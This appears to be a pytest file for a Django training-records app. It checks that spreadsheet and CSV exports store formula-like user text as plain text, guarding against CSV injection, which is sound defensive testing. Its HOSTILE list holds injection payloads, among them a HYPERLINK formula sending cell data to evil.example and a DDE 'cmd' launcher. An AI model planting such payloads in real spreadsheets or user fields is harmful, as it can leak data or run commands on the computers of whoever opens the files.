"""Every spreadsheet export writes user text as text: nothing that begins with =, +, -, @, tab or
carriage return becomes a formula (OWASP CSV injection), and numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from types import SimpleNamespace

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from accounts.roles import Role
from accounts.validators import make_id_number
from core.exports import table_csv, table_xlsx, xlsx_bytes, workbook
from tests.courses.helpers import bureau, enrolled_course, enterprise

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
HOSTILE = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_no_formula(content: bytes, *expected_texts: str):
    all_cells = cells(content)
    assert not [c.coordinate for c in all_cells if c.data_type == "f"]
    texts = {c.value for c in all_cells if isinstance(c.value, str)}
    for text in expected_texts:
        found = [c for c in all_cells if isinstance(c.value, str) and text in c.value]
        assert found, (text, texts)
        assert all(c.data_type == "s" for c in found)
    return all_cells


def test_table_xlsx_keeps_text_as_text_and_numbers_as_numbers():
    content = table_xlsx(["文本", "数字"], [[text, -5] for text in HOSTILE] + [["普通", 3.5]])
    all_cells = assert_no_formula(content, *HOSTILE[:-1], "=1+1")  # XML reads a stored CR back as LF
    values = {c.coordinate: c.value for c in all_cells}
    assert values["A2"] == EVIL and values["B2"] == -5 and values["B8"] == 3.5
    quoted = [c for c in all_cells if c.column == 1 and c.row > 1 and c.row < 8]
    assert all(c.quotePrefix for c in quoted)


def test_a_formula_put_into_a_styled_workbook_is_saved_as_text():
    wb = workbook()
    wb.active["A1"] = "=1+1"
    wb.active.cell(row=2, column=1, value=EVIL)
    assert wb.active["A1"].data_type == "f"  # what openpyxl would have written
    assert_no_formula(xlsx_bytes(wb), "=1+1", EVIL)


def test_table_csv_quotes_dangerous_text_and_keeps_numbers():
    content = table_csv(["文本", "数字"], [[text, -5] for text in HOSTILE] + [["普通", dt.date(2026, 1, 2)]])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:-1]] == ["'" + text for text in HOSTILE]
    assert all(r[1] == "-5" for r in rows[1:-1]) and rows[-1] == ["普通", "2026-01-02"]


def test_roster_result_download(client, make_member):
    org = enterprise()
    client.force_login(make_member(Role.ENT_ADMIN, org))
    body = io.StringIO()
    csv.writer(body).writerows([["姓名", "身份证号", "操作项目"], [EVIL, make_id_number("44070419850307001"), "@SUM(1+1)"]])
    r = client.post("/certificates/roster/", {"file": SimpleUploadedFile("r.csv", body.getvalue().encode())})
    assert r.status_code == 302
    content = client.get(r["Location"].rstrip("/") + "/download.xlsx").content
    all_cells = assert_no_formula(content, EVIL, "@SUM(1+1)")
    assert any(c.value == 2 and c.column == 1 for c in all_cells)  # the row number stays a number


def test_training_progress_export(client, make_member):
    org = enterprise()
    admin = make_member(Role.ENT_ADMIN, org)
    worker = make_member(Role.WORKER, org, real_name=EVIL)
    enrolled_course(worker, title="+1+cmd|' /C calc'!A0")
    client.force_login(admin)
    r = client.get("/courses/enterprise/export.xlsx")
    assert r.status_code == 200
    assert_no_formula(r.content, EVIL, "+1+cmd")


def test_item_statistics_export():
    from exams.stats import statistics_workbook

    question = SimpleNamespace(pk=7, version=1, stem=EVIL, get_type_display=lambda: "单选题")
    result = {"candidates": 3, "mean": 81.5, "rows": [
        {"question": question, "n": 3, "facility": 0.667, "discrimination": -0.25,
         "distribution": [("A", 2, True), ("B", 1, False)], "weak": True}]}
    content = statistics_workbook(SimpleNamespace(name="@SUM(1+1)"), result)
    all_cells = assert_no_formula(content, EVIL, "@SUM(1+1)")
    assert any(c.value == -0.25 for c in all_cells)


def test_progress_table_export():
    from reports.progress import workbook_bytes

    office = bureau()
    office.name = EVIL
    content = workbook_bytes(office, dt.date(2026, 10, 26), dt.date(2026, 11, 25), None, [])
    assert_no_formula(content, EVIL)


def test_import_templates_hold_no_formulas():
    from courses.imports import template_workbook as attendance_template
    from exams.importer import template_workbook as question_template

    assert_no_formula(question_template(chinese=True), "题干")
    assert_no_formula(xlsx_bytes(attendance_template()), "110101198503071235")
